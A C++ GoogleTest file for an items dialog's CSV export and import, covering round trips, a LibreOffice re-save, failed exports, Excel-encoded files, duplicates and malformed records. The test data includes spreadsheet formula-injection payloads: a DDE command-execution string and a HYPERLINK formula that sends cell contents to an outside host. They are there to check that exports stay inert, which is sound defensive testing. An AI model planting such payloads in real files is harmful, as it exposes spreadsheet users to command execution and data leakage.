// The items file through the items dialog: 导出 and 导入 giving the same items back, also after a
// real spreadsheet has opened and saved the file, a failed export leaving the earlier file whole,
// the file as spreadsheets save it, repeats and malformed records, and the real save chooser.
#include "items/itemsdlg.h"

#include "appstate/globals.h"
#include "base/kernel_handles.h"
#include "base/text_codec.h"
#include "res/resource.h"
#include "store/pins.h"
#include "store/rowquery.h"
#include "store/statements.h"
#include "tests/items/items_fixture.h"
#include "tests/support/immutable_file.h"
#include "tests/support/pump.h"

#include <algorithm>
#include <gtest/gtest.h>

using namespace items_testing;

namespace {

constexpr char kHeader[] = u8"标签,内容,点击次数,最后复制时间\r\n";
constexpr char kPinnedHeader[] = u8"标签,内容,点击次数,最后复制时间,置顶\r\n";

// The pinned ids, the first pinned first; "" for none, or no pin table at all.
std::wstring PinsIn(const std::wstring& db)
{
    if (testing_support::QueryText(db, L"SELECT count(*) FROM sqlite_master WHERE name='T_PIN'") == L"0")
        return L"";
    return testing_support::QueryText(
        db, L"SELECT group_concat(id) FROM (SELECT id FROM T_PIN ORDER BY pinned_at)");
}

// Pins the items, in this order, as the program does.
void Pin(const std::wstring& db, const std::vector<int>& ids)
{
    std::wstring sql;
    for (const CString& statement : StmtsCreatePinTable())
        sql += statement.str() + L";";
    for (int id : ids)
        sql += StmtPinItem(id).str() + L";";
    testing_support::ExecuteSql(db, sql);
}

class ItemsFileTest : public ItemsTest {
protected:
    // Steps: press a button, wait until it has asked its chooser (calls reaching count), then take
    // down the message box it shows, if any, keeping its text in boxes.
    void Press(std::vector<std::function<bool()>>& steps, CDialog& dlg, int button, const int& calls,
               int count)
    {
        steps.push_back([&dlg, button] {
            ::PostMessageW(::GetDlgItem(dlg.m_hWnd, button), BM_CLICK, 0, 0);
            return true;
        });
        steps.push_back([this, &calls, count] {
            if (calls != count)
                return false;
            if (HWND box = FindSystemDialog()) {
                boxes.push_back(testing_support::MessageBoxText(box));
                testing_support::AnswerMessageBox(box, IDOK);
            }
            return true;
        });
        steps.push_back([] { return !FindSystemDialog(); });
    }

    // The contents in the hot list's order, as the next start lists them.
    std::vector<std::wstring> HeatOrder() const
    {
        std::vector<std::wstring> contents;
        EXPECT_TRUE(RunRowQuery(g_connStr, StmtSelectHotRows(),
                                [&](const CDbRow& row) { contents.push_back(row.Value(2).AsText()); }));
        return contents;
    }

    std::vector<std::wstring> FilesIn(const std::wstring& folder) const
    {
        std::vector<std::wstring> names;
        WIN32_FIND_DATAW found = {};
        HANDLE search = ::FindFirstFileW((folder + L"*").c_str(), &found);
        if (search == INVALID_HANDLE_VALUE)
            return names;
        do {
            if (!(found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY))
                names.push_back(found.cFileName);
        } while (::FindNextFileW(search, &found));
        ::FindClose(search);
        return names;
    }

    std::vector<std::wstring> boxes;
};

}  // namespace

TEST_F(ItemsFileTest, ExportThenImportIntoAFreshTableGivesTheSameItemsInTheSameOrdersAndTwiceAddsNothing)
{
    UseItems({{L"公司地址", L"北京市海淀区, \"中关村\" 5 号", 9, L"2026-02-09 09:15:00"},
              {std::nullopt, L"两行\r\n第二行", 5, L"2026-02-10 14:02:33"},
              {L"it's", L"只有换行\n第二行", 5, L"2026-02-10 14:02:33"},
              {L"", L"问候 😀 𠮷 Zoë ß", 0, std::nullopt},
              {L"a,b", L"\"", 0, std::nullopt},
              {L" 空格 ", L"  ", 0, std::nullopt},
              {L"'=x", L"=\"x\"&CHAR(10)", 0, std::nullopt},
              {L"110101199003077777", L"-2+3\r\n第二行", 1, std::nullopt}});
    Pin(m_dbPath, {8, 2});
    const std::vector<StoredItem> before = Stored();
    std::vector<StoredItem> back = before;
    back[1].title = L"";  // a label never given shows empty, and comes back so
    const std::vector<std::wstring> heatBefore = HeatOrder();
    const std::wstring file = PathInFolder(L"items.csv");

    CTestItemsDlg exporting;
    exporting.exportPaths = {file};
    std::vector<std::function<bool()>> steps;
    Press(steps, exporting, IDC_EXPORT, exporting.exportChooserCalls, 1);
    RunDialog(exporting, steps);
    EXPECT_EQ(boxes, std::vector<std::wstring>{L"已导出 8 项。"});
    EXPECT_FALSE(exporting.m_isDataChanged) << "an export changes nothing the main list shows";
    // In the list's order, newest first; quoted only where a field needs it; what a spreadsheet
    // would retype as the formula that shows it.
    EXPECT_EQ(
        testing_support::FileBytes(file),
        std::string("\xEF\xBB\xBF") + kPinnedHeader +
            u8"\"=\"\"110101199003077777\"\"\",\"=\"\"-2+3\"\"&CHAR(13)&CHAR(10)&\"\"第二行\"\"\",1,,1\r\n"
            u8"\"=\"\"'=x\"\"\",\"=\"\"=\"\"\"\"x\"\"\"\"&CHAR(10)\"\"\",0,,\r\n"
            u8" 空格 ,  ,0,,\r\n"
            u8"\"a,b\",\"\"\"\",0,,\r\n"
            u8",问候 😀 𠮷 Zoë ß,0,,\r\n"
            u8"it's,\"只有换行\n第二行\",5,2026-02-10 14:02:33,\r\n"
            u8",\"两行\r\n第二行\",5,2026-02-10 14:02:33,1\r\n"
            u8"公司地址,\"=\"\"北京市海淀区, \"\"\"\"中关村\"\"\"\" 5 号\"\"\",9,2026-02-09 09:15:00,\r\n");
    EXPECT_EQ(before, Stored()) << "the table is only read";

    UseItems({});
    CTestItemsDlg importing;
    importing.paths = {file, file};
    steps.clear();
    Press(steps, importing, IDC_IMPORT, importing.chooserCalls, 1);
    std::vector<int> listed;
    steps.push_back([&] {
        listed = ListedIds(importing);
        return true;
    });
    Press(steps, importing, IDC_IMPORT, importing.chooserCalls, 2);
    RunDialog(importing, steps);
    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导出 8 项。", L"已导入 8 项，跳过重复的 0 项。",
                                                L"已导入 0 项，跳过重复的 8 项。"}));
    EXPECT_EQ(Stored(), back) << "labels, contents, counts and times, even the ids";
    EXPECT_EQ(PinsIn(m_dbPath), L"8,2") << "the pins too, in their order";
    EXPECT_EQ(HeatOrder(), heatBefore);
    EXPECT_TRUE(importing.m_isDataChanged);
    EXPECT_EQ(listed, (std::vector<int>{8, 7, 6, 5, 4, 3, 2, 1})) << "the new rows in the file's order";
}

// Texts a spreadsheet retypes or runs, exported, opened and saved as CSV by LibreOffice Calc in a
// Chinese locale (the host's program, which Wine starts like any other), and imported again.
TEST_F(ItemsFileTest, ExportedTextsComeBackWhenASpreadsheetHasOpenedAndSavedTheFile)
{
    ASSERT_NE(::GetFileAttributesW(L"Z:\\usr\\bin\\soffice"), INVALID_FILE_ATTRIBUTES)
        << "LibreOffice Calc (libreoffice-calc-nogui) is not installed";
    UseItems({{L"编号", L"007", 3, L"2026-02-09 09:15:00"},
              {L"110101199003077777", L"1/2"},
              {L"50%", L"2026-02-09"},
              {L"=1+1", L"-2+3"},
              {L"'=", L"=HYPERLINK(\"http://example.com/?\"&A1)"},
              {L"true", L"+cmd|' /C calc'!A0"},
              {L"@A", L"=两行\r\n第二行"},
              {L"１２３", L"1e5"},
              {L"it's", L"问候 😀 𠮷, \"引号\""}});
    const std::vector<StoredItem> before = Stored();
    const std::wstring folder = PathInFolder(L"");
    ASSERT_EQ(folder.compare(0, 3, L"Z:\\"), 0) << "the host's root is Wine's Z: drive";
    std::string dir = WideToUtf8(folder.substr(2));
    std::replace(dir.begin(), dir.end(), '\\', '/');
    CTestItemsDlg exporting, importing;
    exporting.exportPaths = {folder + L"items.csv"};
    importing.paths = {folder + L"saved\\items.csv"};
    std::vector<std::function<bool()>> steps;
    Press(steps, exporting, IDC_EXPORT, exporting.exportChooserCalls, 1);
    RunDialog(exporting, steps);
    // Wine gives no handle to wait on for a host program: the shell leaves a file when it is done.
    std::wstring command = Utf8ToWide(
        "Z:\\bin\\sh -c \"cd '" + dir + "' && LANG=zh_CN.UTF-8 LC_ALL=zh_CN.UTF-8 timeout 60 soffice " +
        "-env:UserInstallation=file://" + dir + "profile --headless --infilter=CSV:44,34,76,1 --convert-to " +
        "'csv:Text - txt - csv (StarCalc):44,34,76,1' --outdir saved items.csv >soffice.log 2>&1; echo $? "
        ">ended\"");
    STARTUPINFOW startup = {};
    startup.cb = sizeof(startup);
    PROCESS_INFORMATION started = {};
    ASSERT_TRUE(::CreateProcessW(nullptr, &command[0], nullptr, nullptr, FALSE, 0, nullptr, nullptr, &startup,
                                 &started));
    const CKernelHandle process(started.hProcess), thread(started.hThread);
    ASSERT_TRUE(testing_support::PumpUntil(
        [&] { return testing_support::FileBytes(folder + L"ended") != ""; }, 70000));
    EXPECT_EQ(testing_support::FileBytes(folder + L"ended"), "0\n")
        << testing_support::FileBytes(folder + L"soffice.log");

    UseItems({});
    steps.clear();
    Press(steps, importing, IDC_IMPORT, importing.chooserCalls, 1);
    RunDialog(importing, steps);
    EXPECT_EQ(boxes, (std::vector<std::wstring>{L"已导出 9 项。", L"已导入 9 项，跳过重复的 0 项。"}));
    EXPECT_EQ(Stored(), before) << testing_support::FileBytes(importing.paths[0]);
}

TEST_F(ItemsFileTest, AnExportThatCannotReplaceTheEarlierFileLeavesItWholeAndSaysWhy)
{
    UseItems({{L"a", L"new"}});
    const std::wstring folder = PathInFolder(L"out\\");
    ASSERT_TRUE(::CreateDirectoryW(folder.c_str(), nullptr));
    const std::wstring file = folder + L"items.csv";
    const std::string earlier = std::string("\xEF\xBB\xBF") + kHeader + "b,old,0,\r\n";
    const std::wstring readOnly =
        L"导出失败，未写入文件！文件或文件夹是只读的，或文件正被其他程序使用（例如已在 Excel 中打开）。";
    struct Case {
        const char* why;
        bool heldOpen;  // another program has it open, sharing nothing, as Excel does
    } cases[] = {{"a read-only file", false}, {"a file open in another program", true}};
    for (const Case& test : cases) {
        SCOPED_TRACE(test.why);
        testing_support::WriteFileBytes(file, earlier);
        std::unique_ptr<testing_support::CImmutableFile> immutable;
        CFileHandle held;
        if (test.heldOpen) {
            held = CFileHandle(::CreateFileW(file.c_str(), GENERIC_READ | GENERIC_WRITE, 0, nullptr,
                                             OPEN_EXISTING, 0, nullptr));
            ASSERT_TRUE(held);
        } else {
            immutable = std::make_unique<testing_support::CImmutableFile>(file);
            ASSERT_TRUE(immutable->IsImmutable());
        }
        CTestItemsDlg dlg;
        dlg.exportPaths = {file};
        boxes.clear();
        std::vector<std::function<bool()>> steps;
        Press(steps, dlg, IDC_EXPORT, dlg.exportChooserCalls, 1);
        RunDialog(dlg, steps);
        EXPECT_EQ(boxes, std::vector<std::wstring>{readOnly});
        EXPECT_EQ(dlg.LastExport().outcome, CExportReport::Outcome::CannotWrite);
        held = CFileHandle();
        immutable.reset();
        EXPECT_EQ(testing_support::FileBytes(file), earlier);
        EXPECT_EQ(FilesIn(folder), std::vector<std::wstring>{L"items.csv"})
            << "the file written beside it is gone";
        EXPECT_FALSE(dlg.m_isDataChanged);
    }
}

TEST_F(ItemsFileTest, TheFileAsSpreadsheetsSaveItComesBackRepeatsAreSkippedAndAMalformedRecordStopsAtItsLine)
{
    const std::string header = kHeader;
    struct Case {
        const char* why;
        std::vector<TestItem> table;
        std::string bytes;
        std::vector<StoredItem> stored;
        std::wstring box;  // "" for none
        std::vector<int> pinnedBefore = {};
        std::wstring pins = L"";  // the pinned ids afterwards, the first pinned first
    };
    const Case cases[] = {
        {"saved by Excel as CSV: code page 936, no mark, times without seconds or zeros",
         {},
         WideToCodePage(936,
                        L"标签,内容,点击次数,最后复制时间\r\n地址,\"北京市\r\n海淀区\",3,2026/1/2 3:04\r\n"
                        L",收到，谢谢！,0,\r\n电话,\"400-000-1234, 分机 8\",12,2026/12/31 23:59:05\r\n"),
         {{1, L"电话", L"400-000-1234, 分机 8", 12, L"2026-12-31 23:59:05"},
          {2, L"", L"收到，谢谢！", 0, std::nullopt},
          {3, L"地址", L"北京市\r\n海淀区", 3, L"2026-01-02 03:04:00"}},
         L"已导入 3 项，跳过重复的 0 项。"},
        {"repeats of an item already there (its label null) and of a record before",
         {{std::nullopt, L"收到", 2}},
         header + ",收到,0,\r\na,新的,1,\r\na,新的,5,\r\nA,新的,0,\r\n" + ",,,\r\n",
         {{1, std::nullopt, L"收到", 2, std::nullopt},
          {2, L"A", L"新的", 0, std::nullopt},
          {3, L"a", L"新的", 1, std::nullopt}},
         L"已导入 2 项，跳过重复的 2 项。"},
        {"an unclosed quote on line 5: the records before it land",
         {},
         header + "一,\"两\r\n行\",1,\r\n二,x,0,\r\n三,\"never closed,0,\r\nfour,y,0,\r\n",
         {{1, L"二", L"x", 0, std::nullopt}, {2, L"一", L"两\r\n行", 1, std::nullopt}},
         L"已导入 2 项，跳过重复的 0 项。第 5 行的记录有误（引号不成对），这一行和其后的记录没有导入。"},
        {"a count that is not a number",
         {},
         header + "一,x,1,\r\n二,y,很多,\r\n三,z,0,\r\n",
         {{1, L"一", L"x", 1, std::nullopt}},
         L"已导入 1 项，跳过重复的 0 项。第 3 "
         L"行的记录有误（点击次数不是数字），这一行和其后的记录没有导入。"},
        {"a header alone", {}, header, {}, L"文件中没有可导入的内容。"},
        {"a doubled mark, a column of the user's, a lone CR",
         {},
         u8"\uFEFF\uFEFF标签,内容,点击次数,最后复制时间,备注\r\n,\"multi\rline\",3,,note\r\n",
         {{1, L"", L"multi\rline", 3, std::nullopt}},
         L"已导入 1 项，跳过重复的 0 项。"},
        {"columns in another order; files joined, the second header no item",
         {},
         u8"内容,标签,最后复制时间,点击次数\r\nx,a,,1\r\n\uFEFF内容,标签,最后复制时间,点击次数\r\ny,b,,2\r\n",
         {{1, L"b", L"y", 2, std::nullopt}, {2, L"a", L"x", 1, std::nullopt}},
         L"已导入 2 项，跳过重复的 0 项。"},
        {"a first line that is not the header: a line an item, as ever",
         {},
         u8"标签,内容\r\n\"x\",1\r\n",
         {{1, L"", L"标签,内容", 0, std::nullopt}, {2, L"", L"\"x\",1", 0, std::nullopt}},
         L"已导入 2 项。"},
        {"five columns: 1 pins, in the file's order; empty, or anything else, does not",
         {},
         std::string(kPinnedHeader) + u8"一,x,0,,1\r\n二,y,0,,\r\n三,z,0,,是\r\n四,w,0,, 1 \r\n",
         {{1, L"四", L"w", 0, std::nullopt},
          {2, L"三", L"z", 0, std::nullopt},
          {3, L"二", L"y", 0, std::nullopt},
          {4, L"一", L"x", 0, std::nullopt}},
         L"已导入 4 项，跳过重复的 0 项。",
         {},
         L"4,1"},
        {"a pinned repeat pins the item there after its pins; an unpinned one leaves a pin",
         {{L"a", L"x"}, {L"b", L"y"}},
         std::string(kPinnedHeader) + "a,x,0,,1\r\nb,y,0,,\r\nc,z,0,,1\r\nc,z,0,,\r\n",
         {{1, L"a", L"x", 0, std::nullopt},
          {2, L"b", L"y", 0, std::nullopt},
          {3, L"c", L"z", 0, std::nullopt}},
         L"已导入 1 项，跳过重复的 3 项。",
         {2},
         L"2,1,3"},
        {"a pinned repeat of a record before it pins the item that record became",
         {},
         std::string(kPinnedHeader) + "d,w,0,,\r\nd,w,0,,1\r\n",
         {{1, L"d", L"w", 0, std::nullopt}},
         L"已导入 1 项，跳过重复的 1 项。",
         {},
         L"1"},
    };
    for (const Case& test : cases) {
        SCOPED_TRACE(test.why);
        UseItems(test.table);
        if (!test.pinnedBefore.empty())
            Pin(m_dbPath, test.pinnedBefore);
        CTestItemsDlg dlg;
        dlg.paths = {WriteFile(L"items.csv", test.bytes)};
        boxes.clear();
        std::vector<std::function<bool()>> steps;
        Press(steps, dlg, IDC_IMPORT, dlg.chooserCalls, 1);
        RunDialog(dlg, steps);
        EXPECT_EQ(boxes,
                  test.box.empty() ? std::vector<std::wstring>{} : std::vector<std::wstring>{test.box});
        EXPECT_EQ(Stored(), test.stored);
        EXPECT_EQ(PinsIn(m_dbPath), test.pins);
        EXPECT_EQ(dlg.m_isDataChanged, test.stored.size() > test.table.size())
            << "a reload only for items added";
    }
}

TEST_F(ItemsFileTest, TheRealSaveChooserProposesTodaysFileAndCancellingItWritesNothing)
{
    UseItems({{L"a", L"1"}});
    auto today = [] {
        SYSTEMTIME now = {};
        ::GetLocalTime(&now);
        wchar_t name[64] = {};
        swprintf(name, 64, L"Mirelo-items-%04u%02u%02u.csv", now.wYear, now.wMonth, now.wDay);
        return std::wstring(name);
    };
    const std::wstring before = today();
    CItemsDlg dlg;
    std::wstring name, type;
    RunDialog(dlg, {[&] {
                        ::PostMessageW(::GetDlgItem(dlg.m_hWnd, IDC_EXPORT), BM_CLICK, 0, 0);
                        return true;
                    },
                    [&] {
                        HWND chooser = FindSystemDialog();
                        if (!chooser)
                            return false;
                        // The file name box (cmb13) and the file type box (cmb1) of a file chooser.
                        wchar_t text[MAX_PATH] = {};
                        ::GetDlgItemTextW(chooser, 0x47C, text, MAX_PATH);
                        name = text;
                        ::SendDlgItemMessageW(chooser, 0x470, CB_GETLBTEXT, 0,
                                              reinterpret_cast<LPARAM>(text));
                        type = text;
                        ::PostMessageW(chooser, WM_COMMAND, IDCANCEL, 0);
                        return true;
                    },
                    [&] { return !FindSystemDialog(); }});
    EXPECT_TRUE(name == before || name == today()) << testing_support::Utf8(name);
    EXPECT_EQ(type, L"CSV (*.csv)");
    EXPECT_EQ(dlg.LastExport().exportedItems, 0) << "cancelled: nothing written";
    EXPECT_FALSE(dlg.m_isDataChanged);
}
